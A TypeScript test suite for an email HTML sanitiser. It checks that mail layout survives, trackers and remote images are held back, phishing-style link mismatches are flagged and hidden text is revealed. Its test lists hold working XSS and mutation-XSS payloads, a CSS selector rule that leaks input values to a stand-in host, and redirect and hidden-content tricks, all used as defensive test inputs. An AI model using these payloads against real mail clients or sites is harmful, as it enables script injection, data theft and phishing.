import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sanitiseHtml } from './sanitise-html.ts';
import { SANITISER_VERSION } from './version.ts';

const clean = (html: string): string => sanitiseHtml(html).html;

test('the words and the look of a mail stay', () => {
  const html =
    '<p style="color: #333; margin: 0 0 8px"><b>Hej</b> <i>då</i></p><table><tbody><tr><td bgcolor="#eee">1</td></tr></tbody></table>';
  assert.equal(clean(html), html);
  assert.equal(sanitiseHtml(html).version, SANITISER_VERSION);
});

const DANGEROUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.test"><input name=a><button>x</button></form>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  '<style>input[value^=a]{background:url(https://evil.test)}</style>',
  '<p style="background:url(https://evil.test/a)">x</p>',
  '<p style="background:u\\72l(https://evil.test/a)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="display:none">hidden</p><p style="visibility:hidden">hidden</p><p style="font-size:0">hidden</p><p style="opacity:0">hidden</p>',
  '<img srcset="https://evil.test/a 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<video poster="https://evil.test/a"></video><audio src="https://evil.test/a" autoplay></audio>',
  '<table background="https://evil.test/a"><tr><td background="https://evil.test/b">x</td></tr></table>',
  '<input value="<img src=x onerror=alert(1)>"><textarea></textarea><img src=x onerror=alert(1)>',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
  '<img src="https://evil.test/a" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
];

for (const html of DANGEROUS) {
  test(`nothing runs, loads or covers in ${html.slice(0, 60)}`, () => {
    const out = clean(html);
    assert.doesNotMatch(out, /<(?:script|style|svg|math|iframe|form|input|base|meta|link|object|embed|video|audio|area)\b/i);
    assert.doesNotMatch(out, /\son\w+\s*=|javascript:|url\(|expression|position|display:\s*none|visibility|opacity|font-size/i);
    assert.doesNotMatch(out, /(?:^|[\s"])(?:src|srcset|background|poster|data|action)="(?!data:image\/)/i);
  });
}

test('remote images are counted and wait, pictures of the mail itself are marked', () => {
  const { html, remoteImages } = sanitiseHtml(
    '<img src="https://shop.test/a.png" alt="a"><img src="cid:photo%40x"><img src="data:image/png;base64,iVBORw==">',
  );
  assert.equal(remoteImages, 1);
  assert.equal(
    html,
    '<img alt="a" data-remote-src="https://shop.test/a.png"><img data-cid="photo@x"><img src="data:image/png;base64,iVBORw==">',
  );
});

test('a mail cannot bring the marks of the viewer itself', () => {
  assert.equal(clean('<img data-cid="x" data-remote-src="javascript:1" alt="a">'), '<img alt="a">');
});

test('links open elsewhere, say where and tell nothing', () => {
  assert.equal(
    clean('<a href="https://shop.test/a?utm_source=mail&id=7&fbclid=x#top" target="_top" title="Bank">x</a>'),
    '<a href="https://shop.test/a?id=7#top" title="shop.test" rel="noopener noreferrer" target="_blank">x</a>',
  );
  assert.match(clean('<a href="https://shop.test/?a=1&amp;b=%20c">x</a>'), /href="https:\/\/shop\.test\/\?a=1&amp;b=%20c"/);
});

const ELSEWHERE = [
  '<a href="https://evil.test/">https://bank.test/login</a>',
  '<a href="https://evil.test/">bank.test</a>',
  '<a href="https://evil.test/"><b>www.</b>bank.test</a>',
  '<a href="https://evil.test/">support@bank.test</a>',
  '<a href="https://bank.test@evil.test/">Log in</a>',
  '<a href="https://bank.test.evil.test/">bank.test</a>',
  '<a href="https://evil.co.uk/">bank.co.uk</a>',
  '<a href="https://evil.github.io/">bank.github.io</a>',
];
for (const html of ELSEWHERE) {
  test(`the words name another place than the address in ${html}`, () => {
    assert.match(clean(html), /data-elsewhere="[^"]*evil\.[^"]*"/);
  });
}

test('a link whose words lead where they say is not marked', () => {
  for (const html of [
    '<a href="https://www.bank.test/login">bank.test</a>',
    '<a href="https://click.bank.co.uk/x">https://bank.co.uk/offers</a>',
    '<a href="https://files.test/a">invoice.pdf</a>',
    '<a href="https://shop.test/">Read more</a>',
    '<a href="mailto:anna@acme.test">anna@acme.test</a>',
  ])
    assert.doesNotMatch(clean(html), /data-elsewhere/, html);
});

test('pictures that nobody could see are neither kept nor counted', () => {
  const seen = '<img src="https://shop.test/a.png" width="600" height="200">';
  const unseen = [
    '<img src="https://t.test/1" width="1" height="1">',
    '<img src="https://t.test/2" width=0>',
    '<img src="https://t.test/3" style="width:1px;height:1px">',
    '<img src="https://t.test/4" style="display:none">',
    '<div style="display:none;max-height:0"><p><img src="https://t.test/5"></p></div>',
    '<img src="https://t.test/6" style="visibility: hidden !important">',
    '<img src="//t.test/7" height="2px">',
    '<style>.p{opacity:0}</style><body><img class="p" src="https://t.test/8"></body>',
  ];
  const { html, remoteImages } = sanitiseHtml(`${seen}${unseen.join('')}`);
  assert.equal(remoteImages, 1);
  assert.doesNotMatch(html, /t\.test/);
});

test('rules of a style sheet are written into what they mean, and only what is safe of them', () => {
  const html = clean(
    '<html><head><style>@import url(https://evil.test/a.css);/* { */ .big, td.x{color:#c00;position:fixed} #one > p{background:#eee url(https://evil.test/b) no-repeat}' +
      '@media (max-width:600px){.big{color:#0c0}} a:hover{color:red} input[value^=a]{background:url(https://evil.test/c)} p{color:#00c !important}</style></head>' +
      '<body bgcolor="#f4f4f4" style="font-family:Arial"><div id="one"><p class="big" style="color:#111">x</p></div></body></html>',
  );
  assert.equal(
    html,
    '<div style="font-family: Arial" bgcolor="#f4f4f4"><div><p style="color: #00c !important; color: #c00; background-color: #eee; color: #111">x</p></div></div>',
  );
});

const HIDDEN = [
  '<p style="color:#fff">secret</p>',
  '<p style="color:rgba(0,0,0,.01)">secret</p>',
  '<p style="color:transparent">secret</p>',
  '<font color="white">secret</font>',
  '<div style="background:#123456"><p style="color:#123457">secret</p></div>',
  '<div style="color:#fff"><table><tr><td bgcolor="white">secret</td></tr></table></div>',
  '<p style="font-size:1px">secret</p>',
  '<p style="font:1px/1px Arial">secret</p>',
  '<p style="line-height:.01">secret</p>',
  '<p style="text-indent:-9999px">secret</p>',
  '<p style="margin-left:5000px">secret</p>',
  '<p style="padding-left:100vw">secret</p>',
  '<p style="height:0;overflow:hidden">secret</p>',
  '<p style="display:none">secret</p>',
  '<style>.moz-text-html .k{display:none}</style><body><div class="moz-text-html"><p class="k">secret</p></div></body>',
  '<details><summary>more</summary>secret</details>',
  '<p hidden>secret</p>',
  '<bdo dir="rtl">secret</bdo>',
  '<ruby>a<rp>secret</rp></ruby>',
  '<p style="unicode-bidi:bidi-override;direction:rtl">secret</p>',
];
for (const html of HIDDEN) {
  test(`what is hidden is shown in ${html.slice(0, 70)}`, () => {
    const out = clean(html);
    assert.match(out, /secret/);
    assert.doesNotMatch(out, /display: none|text-indent|5000|100vw|font[-:]|line-height|overflow|hidden|details|bdo|<rp|bidi/);
    const ink = /color: ([^;"]+)"/.exec(out)?.[1];
    if (html.includes('color')) assert.ok(ink === '#15181c' || ink === '#ffffff', out);
  });
}

test('an empty spacer may be as small as it was made', () => {
  const line = '<td style="height: 1px; font-size: 1px; line-height: 1px; background-color: #dddddd">&nbsp;</td>';
  assert.ok(clean(`<table><tbody><tr>${line}</tr></tbody></table>`).includes(line));
});
